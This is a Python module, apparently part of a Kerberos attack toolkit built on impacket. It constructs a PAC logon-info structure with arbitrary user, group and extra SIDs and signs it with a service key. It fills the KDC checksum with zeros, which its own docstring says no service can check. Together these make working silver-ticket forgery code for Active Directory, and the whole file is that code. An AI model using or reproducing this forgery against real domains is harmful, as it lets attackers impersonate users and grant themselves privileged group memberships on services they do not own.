"""What a PAC says of a user: the KERB_VALIDATION_INFO of MS-PAC 2.5, in the NDR of MS-RPCE 2.2.6."""

import struct

from impacket.krb5 import crypto

_ENABLED = 7  # mandatory, enabled by default, enabled
_NEVER = 0x7fffffffffffffff
_PRIMARY_GROUP = 513
_EXTRA_SIDS = 0x20  # of UserFlags
_LOGON_INFO, _SERVER_CHECKSUM, _KDC_CHECKSUM, _CLIENT_INFO = 1, 6, 7, 10
_CHECKSUM_USAGE, _CHECKSUM_SIZE = 17, 12
_CHECKSUMS = {18: 16, 17: 15}
_1601_TO_1970 = 11644473600


class _Writer:
    """The fixed part, and behind it what its pointers point to."""

    def __init__(self):
        self.fixed, self.behind, self.referents = b"", b"", 0

    def add(self, form, *values):
        self.fixed += struct.pack("<" + form, *values)

    def point(self, data):
        """A pointer to `data`; None: to nothing."""
        if data is None:
            self.add("I", 0)
            return
        self.referents += 1
        self.add("I", 0x20000 + 4 * self.referents)
        self.behind += data + bytes(-len(data) % 4)

    def text(self, text):
        data = text.encode("utf-16-le")
        self.add("HH", len(data), len(data))
        self.point(struct.pack("<III", len(text), 0, len(text)) + data)


def _sid(text):
    """With the number of its parts before it."""
    authority, *parts = [int(part) for part in text.split("-")[2:]]
    return (struct.pack("<IBB", len(parts), 1, len(parts)) + authority.to_bytes(6, "big") +
            struct.pack(f"<{len(parts)}I", *parts))


def _groups(numbers):
    return struct.pack("<I", len(numbers)) + b"".join(
        struct.pack("<II", number, _ENABLED) for number in numbers)


def _extra(sids):
    if not sids:
        return None
    return (struct.pack("<I", len(sids)) +
            b"".join(struct.pack("<II", 0x30000 + index, _ENABLED) for index in range(len(sids))) +
            b"".join(_sid(text) for text in sids))


def logon_info(user, number, domain, domain_sid, groups=(_PRIMARY_GROUP,), extra=()):
    """`number` and `groups` are within the domain, `extra` are whole SIDs."""
    info = _Writer()
    info.add("6Q", *[_NEVER] * 6)
    for text in (user, "", "", "", "", ""):
        info.text(text)
    info.add("HHIII", 0, 0, number, _PRIMARY_GROUP, len(groups))
    info.point(_groups(groups))
    info.add("I16x", _EXTRA_SIDS if extra else 0)
    info.text("DC")
    info.text(domain)
    info.point(_sid(domain_sid))
    info.add("40xI", len(extra))
    info.point(_extra(extra))
    info.add("III", 0, 0, 0)
    whole = struct.pack("<I", 0x20000) + info.fixed + info.behind
    whole += bytes(-len(whole) % 8)
    return struct.pack("<BBHIII", 1, 0x10, 8, 0xcccccccc, len(whole), 0) + whole


def _arrange(buffers):
    """The buffers of a PAC (MS-PAC 2.3): type → bytes."""
    head, body = struct.pack("<II", len(buffers), 0), b""
    begin = 8 + 16 * len(buffers)
    for kind, data in buffers.items():
        head += struct.pack("<IIQ", kind, len(data), begin + len(body))
        body += data + bytes(-len(data) % 8)
    return head + body


def signed(info, client, authtime, key):
    """A PAC for a ticket that the service's `key` encrypts. What the KDC would sign with its own key is
    zeros, which no service can see."""
    name = client.encode("utf-16-le")
    empty = struct.pack("<I", _CHECKSUMS[key.enctype]) + bytes(_CHECKSUM_SIZE)
    buffers = {
        _LOGON_INFO: info,
        _CLIENT_INFO: struct.pack("<QH", (authtime + _1601_TO_1970) * 10000000, len(name)) + name,
        _SERVER_CHECKSUM: empty,
        _KDC_CHECKSUM: empty,
    }
    checksum = crypto.make_checksum(_CHECKSUMS[key.enctype], key, _CHECKSUM_USAGE, _arrange(buffers))
    buffers[_SERVER_CHECKSUM] = empty[:4] + checksum
    return _arrange(buffers)
